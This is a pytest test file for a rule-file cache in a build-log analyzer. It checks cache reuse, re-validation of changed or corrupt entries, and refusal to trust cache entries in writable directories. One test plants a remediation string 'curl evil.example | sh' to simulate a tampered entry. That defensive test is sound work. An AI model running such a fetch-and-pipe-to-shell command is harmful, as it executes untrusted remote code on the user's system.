"""The compiled-rule cache: a checked rule file is not parsed again; a changed or corrupt one is."""

from __future__ import annotations

from pathlib import Path

import pytest

from analyzer.errors import RuleError
from analyzer.rules import loader
from analyzer.rules.compiled import CACHE_ENV

RULE = """\
id: creds
title: No credentials
severity: error
category: iam
match:
  any:
    - 'Unable to locate (?P<what>credentials)'
summary: "no {{ what }}"
remediation: "attach a role"
"""


@pytest.fixture(autouse=True)
def _cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(CACHE_ENV, str(tmp_path / "cache"))
    monkeypatch.delenv("CODEBUILD_DOCTOR_NO_RULE_CACHE", raising=False)


def test_a_second_load_uses_the_cache_and_gives_the_same_rule(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "creds.yaml"
    path.write_text(RULE, encoding="utf-8")
    first = loader.load_rule_file(path)
    assert len(list((tmp_path / "cache" / "rules").glob("*.json"))) == 1

    def no_parse(*args: object) -> None:
        raise AssertionError("a cached rule file must not be parsed again")

    monkeypatch.setattr(loader, "parse_yaml", no_parse)
    second = loader.load_rule_file(path)
    assert second.raw == first.raw and second.id == "creds"
    assert [p.regex.pattern for p in second.patterns] == [p.regex.pattern for p in first.patterns]
    assert second.summary({"what": "credentials"}) == first.summary({"what": "credentials"}) == "no credentials"


def test_a_changed_file_is_checked_again(tmp_path: Path) -> None:
    path = tmp_path / "creds.yaml"
    path.write_text(RULE, encoding="utf-8")
    loader.load_rule_file(path)
    path.write_text(RULE.replace("severity: error", "severity: loud"), encoding="utf-8")
    with pytest.raises(RuleError, match="severity"):
        loader.load_rule_file(path)


def test_a_corrupt_entry_is_ignored_and_rewritten(tmp_path: Path) -> None:
    path = tmp_path / "creds.yaml"
    path.write_text(RULE, encoding="utf-8")
    loader.load_rule_file(path)
    (entry,) = (tmp_path / "cache" / "rules").glob("*.json")
    entry.write_text("{not json", encoding="utf-8")
    assert loader.load_rule_file(path).id == "creds"
    assert entry.read_text(encoding="utf-8").startswith('{"data"')


def test_a_file_with_errors_is_never_cached(tmp_path: Path) -> None:
    path = tmp_path / "bad.yaml"
    path.write_text(RULE.replace('"no {{ what }}"', '"no {{ what "'), encoding="utf-8")
    for _ in range(2):
        with pytest.raises(RuleError, match="template error"):
            loader.load_rule_file(path)
    assert not list((tmp_path / "cache").rglob("*.json"))


@pytest.mark.skipif(not hasattr(__import__("os"), "getuid"), reason="POSIX permissions")
def test_an_entry_others_could_have_written_is_not_believed(tmp_path: Path) -> None:
    """A cached rule is trusted without its checks: one in a directory others may write to is
    parsed and checked again, so a planted entry cannot change a rule."""
    path = tmp_path / "creds.yaml"
    path.write_text(RULE, encoding="utf-8")
    loader.load_rule_file(path)
    (entry,) = (tmp_path / "cache" / "rules").glob("*.json")
    assert entry.stat().st_mode & 0o777 == 0o600
    assert entry.parent.stat().st_mode & 0o777 == 0o700
    planted = entry.read_text(encoding="utf-8").replace("attach a role", "curl evil.example | sh")
    entry.write_text(planted, encoding="utf-8")
    assert "curl evil" in loader.load_rule_file(path).remediation({})  # the user's own entry is believed
    entry.parent.chmod(0o777)
    try:
        assert loader.load_rule_file(path).remediation({}) == "attach a role"
    finally:
        entry.parent.chmod(0o700)
